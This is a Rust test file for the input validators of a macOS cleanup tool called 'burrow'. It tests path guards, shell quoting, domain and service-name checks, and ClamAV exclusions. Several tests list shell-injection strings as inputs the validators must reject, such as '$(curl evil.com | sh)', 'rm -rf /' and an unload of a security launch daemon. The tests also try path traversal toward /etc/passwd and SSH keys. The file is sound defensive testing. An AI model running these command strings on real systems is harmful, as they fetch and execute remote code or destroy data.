use burrow::guard::{
    clamav_exclude_args, posix_shell_quote, regex_escape_path_as_anchor, validate_app_uninstall_path,
    validate_brew_token, validate_clamav_found_path, validate_clamav_scan_path, validate_delete_path,
    validate_disk_browse_path, validate_domain_name, validate_installer_path, validate_kill_pid,
    validate_launch_item_path, validate_quarantine_name, validate_service_name, validate_trash_path,
    validate_update_app_path, validate_update_url, FoundProbe, Resolution, path_identity_from,
    revalidate_path_identity,
};

const HOME: &str = "/Users/test";

fn home(s: &str) -> String {
    if s.is_empty() {
        HOME.to_string()
    } else {
        format!("{HOME}/{s}")
    }
}

fn trash(p: &str) -> Result<String, String> {
    validate_trash_path(p, HOME)
}

fn delete(p: &str) -> Result<String, String> {
    validate_delete_path(p, HOME)
}

fn launch(p: &str) -> Result<String, String> {
    validate_launch_item_path(p, HOME)
}

fn installer(p: &str) -> Result<String, String> {
    validate_installer_path(p, HOME)
}

fn uninstall(p: &str) -> Result<String, String> {
    validate_app_uninstall_path(p, HOME)
}

fn update_app(p: &str) -> Result<String, String> {
    validate_update_app_path(p, HOME)
}

/// The path resolves to itself: no link on the way.
fn browse(p: &str) -> Result<String, String> {
    validate_disk_browse_path(p, HOME, Resolution::Canonical(p.to_string()))
}

fn scan(p: &str) -> Result<String, String> {
    validate_clamav_scan_path(p, HOME, Resolution::Canonical(p.to_string()))
}

fn regular_file(p: &str) -> FoundProbe {
    FoundProbe { is_symlink: false, canonical: Ok(p.to_string()), is_file: Ok(true) }
}

#[test]
fn trash_accepts_user_files() {
    assert!(trash(&home("Library/Caches/com.foo/blob")).is_ok());
    assert!(trash(&home("Downloads/installer.dmg")).is_ok());
    assert!(trash("/Applications/Foo.app").is_ok());
    assert!(trash("/Volumes/Backup/old/file.zip").is_ok());
}

#[test]
fn trash_rejects_system_and_roots() {
    for p in [
        "/",
        "/System",
        "/System/Library/CoreServices",
        "/usr/bin/env",
        "/etc/passwd",
        "/var/db",
        "/Library/LaunchDaemons",
        "/Applications",
        "/Users",
        "/Volumes",
        "/Volumes/Macintosh HD",
    ] {
        assert!(trash(p).is_err(), "should reject {p}");
    }
}

#[test]
fn trash_rejects_protected_home_dirs() {
    for sub in ["", "Library", "Documents", "Desktop", "Downloads", ".ssh"] {
        let p = home(sub).trim_end_matches('/').to_string();
        assert!(trash(&p).is_err(), "should reject {p}");
    }
}

#[test]
fn rejects_relative_and_traversal() {
    assert!(trash("Library/Caches").is_err());
    assert!(trash(&home("Library/../../etc/passwd")).is_err());
    assert!(trash("").is_err());
    assert!(delete(&home("Caches/../.ssh")).is_err());
}

#[test]
fn rejects_null_bytes() {
    assert!(trash("/tmp/foo\0bar").is_err());
    assert!(trash("\0").is_err());
}

#[test]
fn delete_restricted_to_user_zones() {
    assert!(delete(&home("Library/Caches/npm")).is_ok());
    assert!(delete("/Volumes/Backup/tmp.bin").is_ok());
    assert!(trash("/Applications/Foo.app").is_ok());
    assert!(delete("/Applications/Foo.app").is_err());
}

#[test]
fn launch_item_accepts_known_dirs() {
    assert!(launch(&home("Library/LaunchAgents/com.foo.bar.plist")).is_ok());
    assert!(launch("/Library/LaunchAgents/com.apple.mDNSResponder.plist").is_ok());
    assert!(launch("/Library/LaunchDaemons/com.foo.daemon.plist").is_ok());
}

#[test]
fn launch_item_rejects_non_plist_and_traversal() {
    assert!(launch("/Library/LaunchDaemons/evil.sh").is_err());
    assert!(launch("/Library/LaunchDaemons/sub/evil.plist").is_err());
    assert!(launch("/tmp/evil.plist").is_err());
    assert!(launch(&home("evil.plist")).is_err());
    assert!(launch("/Library/LaunchAgents/../LaunchDaemons/evil.plist").is_err());
}

#[test]
fn launch_item_injection_attempts() {
    for attempt in [
        "/Library/LaunchAgents/foo; rm -rf /",
        "/Library/LaunchAgents/../../../etc/cron.d/evil.plist",
        "/tmp/evil.plist",
        "/etc/cron.d/evil.plist",
        "/Library/LaunchAgents/sub/evil.plist",
        "/Library/LaunchAgents/evil\0.plist",
    ] {
        assert!(launch(attempt).is_err(), "should reject: {attempt:?}");
    }
}

#[test]
fn installer_accepts_known_dirs() {
    assert!(installer(&home("Downloads/Foo.dmg")).is_ok());
    assert!(installer(&home("Desktop/App.pkg")).is_ok());
    assert!(installer(&home("Library/Caches/Homebrew/downloads/foo.dmg")).is_ok());
}

#[test]
fn installer_rejects_wrong_ext_and_location() {
    assert!(installer(&home("Downloads/evil.sh")).is_err());
    assert!(installer(&home("Downloads/Foo.app")).is_err());
    assert!(installer("/tmp/evil.dmg").is_err());
    assert!(installer("/Applications/Foo.dmg").is_err());
}

#[test]
fn app_uninstall_accepts_valid_apps() {
    assert!(uninstall("/Applications/TextEdit.app").is_ok());
    assert!(uninstall(&home("Applications/MyApp.app")).is_ok());
}

#[test]
fn app_uninstall_rejects_system_apps_and_non_app() {
    assert!(uninstall("/Applications/Safari.app").is_err());
    assert!(uninstall("/Applications/Finder.app").is_err());
    assert!(uninstall("/Applications/Foo").is_err());
    assert!(uninstall("/usr/bin/tool").is_err());
    assert!(uninstall("/Applications/../etc/passwd.app").is_err());
}

#[test]
fn service_name_accepts_valid() {
    assert!(validate_service_name("Wi-Fi").is_ok());
    assert!(validate_service_name("Ethernet").is_ok());
    assert!(validate_service_name("USB 10/100/1000 LAN").is_ok());
    assert!(validate_service_name("Thunderbolt Bridge").is_ok());
}

#[test]
fn service_name_injection_attempts() {
    for attempt in [
        "Wi-Fi'; rm -rf /",
        "Ethernet\nrm -rf /",
        "Wi-Fi$(curl evil.com)",
        "Wi-Fi`id`",
        "Wi-Fi; launchctl unload /Library/LaunchDaemons/com.apple.security.syspolicy.plist",
        "Wi-Fi && curl evil.com | sh",
        "",
    ] {
        assert!(validate_service_name(attempt).is_err(), "should reject: {attempt:?}");
    }
}

#[test]
fn domain_accepts_valid() {
    assert!(validate_domain_name("example.com").is_ok());
    assert!(validate_domain_name("corp.internal").is_ok());
    assert!(validate_domain_name("my-company.net").is_ok());
}

#[test]
fn domain_injection_attempts() {
    for attempt in [
        "example.com; rm -rf /",
        "evil.com\nrm",
        "$(curl evil.com)",
        "`id`.com",
        "example .com",
        "a-.com",
        "-a.com",
        "",
    ] {
        assert!(validate_domain_name(attempt).is_err(), "should reject: {attempt:?}");
    }
}

#[test]
fn kill_pid_guards() {
    let own: u64 = 4242;
    assert!(validate_kill_pid(0, own).is_err());
    assert!(validate_kill_pid(1, own).is_err());
    assert!(validate_kill_pid(own, own).is_err());
    assert!(validate_kill_pid(99999, own).is_ok());
}

#[test]
fn brew_tokens_are_identifiers_not_options() {
    for token in ["firefox", "visual-studio-code", "python@3.13", "tw93/tap/mole"] {
        assert!(validate_brew_token(token).is_ok(), "should accept {token}");
    }
    for token in ["--debug", "-f", "Firefox", "foo bar", "foo;rm", "../evil", "tap//formula", ""] {
        assert!(validate_brew_token(token).is_err(), "should reject {token:?}");
    }
}

#[test]
fn quarantine_names() {
    assert!(validate_quarantine_name("1700000000_malware.bin").is_ok());
    assert!(validate_quarantine_name("../../../etc/passwd").is_err());
    assert!(validate_quarantine_name("a/b").is_err());
    assert!(validate_quarantine_name("").is_err());
    assert!(validate_quarantine_name("..").is_err());
    assert!(validate_quarantine_name("a\0b").is_err());
}

#[test]
fn shell_quote_basic() {
    assert_eq!(posix_shell_quote("hello"), "'hello'");
    assert_eq!(posix_shell_quote("hello world"), "'hello world'");
}

#[test]
fn shell_quote_single_quote() {
    let quoted = posix_shell_quote("hello'world");
    assert_eq!(quoted, "'hello'\\''world'");
    assert!(!quoted.contains(';'));
    assert!(!quoted.contains('`'));
    assert!(!quoted.contains('$'));
}

#[test]
fn shell_quote_injection_scenarios() {
    let attacks = [
        "'; rm -rf /; echo '",
        "$(curl evil.com | sh)",
        "`id`",
        "\n/usr/bin/curl evil.com",
        "../../../etc/passwd",
        "foo'bar'baz",
    ];
    for attack in attacks {
        let q = posix_shell_quote(attack);
        assert!(q.starts_with('\''), "quote: {q}");
        assert!(q.ends_with('\''), "quote: {q}");
        let outside: String = q.chars().skip(1).take_while(|&c| c != '\'').collect::<String>();
        let _ = outside;
    }
}

#[test]
fn update_url_accepts_https() {
    assert!(validate_update_url("https://example.com/App.dmg").is_ok());
    assert!(validate_update_url("https://releases.company.io/v1.2/MyApp-1.2.dmg").is_ok());
}

#[test]
fn update_url_rejects_non_https() {
    assert!(validate_update_url("http://example.com/App.dmg").is_err());
    assert!(validate_update_url("file:///etc/passwd").is_err());
    assert!(validate_update_url("ftp://files.example.com/App.pkg").is_err());
    assert!(validate_update_url("").is_err());
    assert!(validate_update_url("https://ok.com/\0evil").is_err());
    assert!(validate_update_url("https://ok.com/foo\nbar").is_err());
}

#[test]
fn update_app_path_accepts_valid() {
    assert!(update_app("/Applications/TextEdit.app").is_ok());
    assert!(update_app(&home("Applications/MyApp.app")).is_ok());
}

#[test]
fn update_app_path_rejects_invalid() {
    assert!(update_app("/usr/local/bin/tool").is_err());
    assert!(update_app("/Applications/Foo").is_err());
    assert!(update_app("/Applications/../etc/evil.app").is_err());
    assert!(update_app("/tmp/evil.app").is_err());
}

#[test]
fn old_escape_was_broken() {
    let attacker_input = "foo'bar";
    let broken = format!("'{}'", attacker_input.replace('\'', "\\'"));
    let correct = posix_shell_quote(attacker_input);
    assert_ne!(broken, correct, "les deux méthodes doivent différer");
    assert_eq!(correct, "'foo'\\''bar'");
    assert_eq!(broken, "'foo\\'bar'");
    let attack = "'; rm -rf /";
    let correct_q = posix_shell_quote(attack);
    assert_eq!(correct_q, "''\\''; rm -rf /'");
}

#[test]
fn p0_rejects_ssh_key() {
    assert!(delete(&home(".ssh/id_rsa")).is_err(), "~/.ssh/id_rsa doit être refusé");
}

#[test]
fn p0_rejects_arbitrary_document() {
    assert!(delete(&home("Documents")).is_err(), "~/Documents lui-même doit être refusé");
}

#[test]
fn p0_rejects_volume_root() {
    assert!(delete("/Volumes").is_err());
    assert!(delete("/Volumes/Macintosh HD").is_err());
}

#[test]
fn p0_rejects_symlink_parent() {
    assert!(delete(&home("Library/../../.ssh/id_rsa")).is_err());
}

#[test]
fn p0_rejects_system_paths() {
    for path in [
        "/etc/passwd",
        "/etc/sudoers",
        "/var/db/sudo",
        "/usr/bin/sudo",
        "/System/Library/CoreServices",
        "/Library/LaunchDaemons/com.apple.security.syspolicy.plist",
    ] {
        assert!(delete(path).is_err(), "Chemin système doit être refusé : {path}");
    }
}

#[test]
fn p0_rejects_never_scanned_path() {
    assert!(delete("/private/etc/passwd").is_err());
}

#[test]
fn p0_uninstall_rejects_wrong_app() {
    assert!(uninstall("/Applications/Safari.app").is_err());
    assert!(uninstall("/etc/evil.app").is_err());
    assert!(uninstall("/Applications/../etc/evil.app").is_err());
}

#[test]
fn p0_uninstall_rejects_non_app() {
    assert!(uninstall("/Applications/NotAnApp").is_err());
    assert!(uninstall(&home("script.sh")).is_err());
}

#[test]
fn disk_browse_rejects_system_paths() {
    for p in ["/System", "/usr/bin", "/etc", "/Library", "/private/etc"] {
        assert!(browse(p).is_err(), "should reject {p}");
    }
}

#[test]
fn disk_browse_rejects_forbidden_roots() {
    for p in ["/", "/Users", "/Volumes", "/tmp", "/private/tmp"] {
        assert!(browse(p).is_err(), "should reject {p}");
    }
}

#[test]
fn disk_browse_rejects_sensitive_subtrees() {
    for sub in [".ssh", ".gnupg", ".aws", ".kube"] {
        assert!(browse(&home(sub)).is_err(), "should reject ~/{sub}");
    }
}

#[test]
fn disk_browse_accepts_home_and_subdirs() {
    assert!(browse(&home("")).is_ok(), "home must be browsable");
    for sub in ["Downloads", "Documents", "Desktop", "Library"] {
        assert!(browse(&home(sub)).is_ok(), "~/{sub} must be browsable");
    }
}

#[test]
fn disk_browse_returns_canonical_path() {
    let h = home("");
    let canonical = validate_disk_browse_path(&h, HOME, Resolution::Canonical("/Volumes/Data/Users/test".to_string()));
    assert_eq!(canonical, Ok("/Volumes/Data/Users/test".to_string()));
}

#[test]
fn disk_browse_rejects_symlink_to_ssh() {
    let link = "/tmp/burrow-test/evil_link";
    let r = validate_disk_browse_path(link, HOME, Resolution::Canonical(home(".ssh")));
    assert!(r.is_err(), "symlink to ~/.ssh must be rejected");
}

#[test]
fn disk_browse_rejects_symlink_even_when_target_is_allowed() {
    let link = "/tmp/burrow-test/alias";
    let r = validate_disk_browse_path(link, HOME, Resolution::SymlinkComponent(link.to_string()));
    assert!(r.is_err());
}

#[test]
fn clamav_scan_rejects_system_paths() {
    for p in ["/System", "/usr/bin", "/etc", "/Library"] {
        assert!(scan(p).is_err(), "should reject {p}");
    }
}

#[test]
fn clamav_scan_rejects_sensitive_subtrees() {
    for sub in [".ssh", ".gnupg", ".aws", ".kube"] {
        assert!(scan(&home(sub)).is_err(), "should reject ~/{sub}");
    }
}

#[test]
fn clamav_scan_accepts_user_dirs() {
    assert!(scan(&home("")).is_ok(), "home must be scannable");
    for sub in ["Downloads", "Documents", "Desktop"] {
        assert!(scan(&home(sub)).is_ok(), "~/{sub} must be scannable");
    }
}

#[test]
fn clamav_scan_rejects_top_level_symlink() {
    let link = "/tmp/burrow-test/link_to_downloads";
    let r = validate_clamav_scan_path(link, HOME, Resolution::SymlinkComponent(link.to_string()));
    assert!(r.is_err(), "symlink scan target must be rejected");
}

#[test]
fn clamav_found_accepts_file_inside_scan_root() {
    let root = "/tmp/burrow-test".to_string();
    let file = "/tmp/burrow-test/malware.txt";
    assert!(validate_clamav_found_path(file, &[root], HOME, regular_file(file)).is_ok());
}

#[test]
fn clamav_found_rejects_file_outside_scan_roots() {
    let root = home("Downloads");
    let file = "/tmp/burrow-test/stray.txt";
    assert!(validate_clamav_found_path(file, &[root], HOME, regular_file(file)).is_err());
}

#[test]
fn clamav_found_rejects_deleted_file() {
    let root = "/tmp/burrow-test".to_string();
    let file = "/tmp/burrow-test/ghost.txt";
    let probe = FoundProbe {
        is_symlink: false,
        canonical: Err("No such file or directory (os error 2)".to_string()),
        is_file: Err("No such file or directory (os error 2)".to_string()),
    };
    assert!(validate_clamav_found_path(file, &[root], HOME, probe).is_err());
}

#[test]
fn clamav_found_rejects_symlink_to_forbidden() {
    let root = "/tmp/burrow-test".to_string();
    let link = "/tmp/burrow-test/evil";
    let probe = FoundProbe { is_symlink: true, canonical: Ok(home(".ssh")), is_file: Ok(false) };
    assert!(validate_clamav_found_path(link, &[root], HOME, probe).is_err());
}

#[test]
fn clamav_found_accepts_path_with_spaces_and_unicode() {
    let root = "/tmp/burrow-test".to_string();
    let file = "/tmp/burrow-test/日本語 file with spaces.txt";
    assert!(validate_clamav_found_path(file, &[root], HOME, regular_file(file)).is_ok());
}

#[test]
fn clamav_found_rejects_empty_and_relative() {
    let root = HOME.to_string();
    let roots = std::slice::from_ref(&root);
    assert!(validate_clamav_found_path("", roots, HOME, regular_file("")).is_err());
    assert!(validate_clamav_found_path("relative/path.txt", roots, HOME, regular_file("relative/path.txt")).is_err());
    assert!(validate_clamav_found_path("/nul\0byte", roots, HOME, regular_file("/nul\0byte")).is_err());
}

#[test]
fn clamav_found_rejects_directories() {
    let root = "/tmp/burrow-test".to_string();
    let probe = FoundProbe { is_symlink: false, canonical: Ok(root.clone()), is_file: Ok(false) };
    assert!(validate_clamav_found_path(&root, std::slice::from_ref(&root), HOME, probe).is_err());
}

#[test]
fn regex_escape_anchors_and_escapes_dots() {
    let escaped = regex_escape_path_as_anchor("/Users/test/.ssh");
    assert!(escaped.starts_with('^'), "must start with ^");
    assert!(escaped.ends_with('$'), "must end with $");
    assert!(escaped.contains("\\."), "dots must be escaped: {escaped}");
    let inner = &escaped[1..escaped.len() - 1];
    let mut prev_backslash = false;
    for c in inner.chars() {
        if c == '.' {
            assert!(prev_backslash, "unescaped dot in: {inner}");
        }
        prev_backslash = c == '\\';
    }
}

#[test]
fn clamav_home_exclusions_include_sensitive_lexical_paths() {
    let exclusions = clamav_exclude_args(HOME, HOME, &[]);
    for sensitive_name in [".ssh", ".gnupg", ".aws", ".kube", "Keychains"] {
        assert!(
            exclusions.iter().any(|value| value.contains(sensitive_name)),
            "missing exclusion for {sensitive_name}"
        );
    }
}

#[test]
fn clamav_exclusions_are_sorted_unique_and_follow_links() {
    let resolved = vec![
        Some("/Users/test/.ssh".to_string()),
        None,
        Some("/Volumes/Other/aws".to_string()),
        None,
        None,
        None,
        None,
        None,
    ];
    let args = clamav_exclude_args("/Users/test", "/Users/test", &resolved);
    assert_eq!(
        args,
        vec![
            "--exclude-dir=^/Users/test/\\.aws$",
            "--exclude-dir=^/Users/test/\\.config/1Password$",
            "--exclude-dir=^/Users/test/\\.gnupg$",
            "--exclude-dir=^/Users/test/\\.kube$",
            "--exclude-dir=^/Users/test/\\.ssh$",
            "--exclude-dir=^/Users/test/Library/Application Support/1Password$",
            "--exclude-dir=^/Users/test/Library/Application Support/com\\.apple\\.TCC$",
            "--exclude-dir=^/Users/test/Library/Keychains$",
        ]
    );
    let scoped = clamav_exclude_args("/Users/test/Library", "/Users/test", &[]);
    assert_eq!(scoped.len(), 3);
    let elsewhere = clamav_exclude_args("/Volumes/Other", "/Users/test", &resolved);
    assert_eq!(elsewhere, vec!["--exclude-dir=^/Volumes/Other/aws$"]);
}

#[test]
fn delete_is_within_trash_on_examples() {
    for p in ["/Applications/Foo.app", "/Users/test/Library/Caches/x", "/Volumes/B/f", "/tmp/x"] {
        if delete(p).is_ok() {
            assert!(trash(p).is_ok());
        }
    }
}

#[test]
fn disk_browse_rejects_parent_symlink_to_ssh() {
    // The link's parent resolves into ~/.ssh: the canonical path is there.
    let child = "/tmp/burrow-test/ssh_alias/id_rsa";
    let r = validate_disk_browse_path(child, HOME, Resolution::Canonical(home(".ssh/id_rsa")));
    assert!(r.is_err(), "path through symlinked parent to ~/.ssh must be rejected");
}

#[test]
fn path_identity_detects_replacement() {
    let original = "/tmp/burrow-test/target-a";
    // The file as validated, then the file found there after a rename
    // replaced it (same device, another inode).
    let expected = path_identity_from(original, Ok((false, 16777220, 1001))).expect("identity");
    let current = path_identity_from(original, Ok((false, 16777220, 1002)));
    assert!(revalidate_path_identity(original, current, expected).is_err());
    let same = path_identity_from(original, Ok((false, 16777220, 1001)));
    assert!(revalidate_path_identity(original, same, expected).is_ok());
}

#[test]
fn path_identity_refuses_symbolic_links_and_reports_inspection_errors() {
    assert_eq!(
        path_identity_from("/tmp/x", Ok((true, 1, 2))).err(),
        Some("Symbolic link rejected: /tmp/x".to_string())
    );
    assert_eq!(
        path_identity_from("/tmp/x", Err("denied".to_string())).err(),
        Some("Unable to inspect /tmp/x: denied".to_string())
    );
}

#[test]
fn domain_labels_follow_the_rfc() {
    let ok63 = format!("{}.com", "a".repeat(63));
    let bad64 = format!("{}.com", "a".repeat(64));
    assert!(validate_domain_name(&ok63).is_ok());
    assert!(validate_domain_name(&bad64).is_err());
    assert!(validate_domain_name("a..b").is_err());
    assert!(validate_domain_name("a.b.").is_err());
    assert!(validate_domain_name("  corp.internal \t").is_ok());
    assert!(validate_domain_name("x_y.com").is_err());
}

#[test]
fn readonly_zone_spares_home_but_not_its_secrets() {
    assert!(!burrow::guard::is_forbidden_for_readonly(HOME, HOME));
    assert!(!burrow::guard::is_forbidden_for_readonly(&home("Downloads"), HOME));
    assert!(burrow::guard::is_forbidden_zone(HOME, HOME));
    assert!(burrow::guard::is_forbidden_for_readonly(&home(".ssh/keys/id"), HOME));
    assert!(burrow::guard::is_forbidden_for_readonly("/System/Library/Fonts", HOME));
}
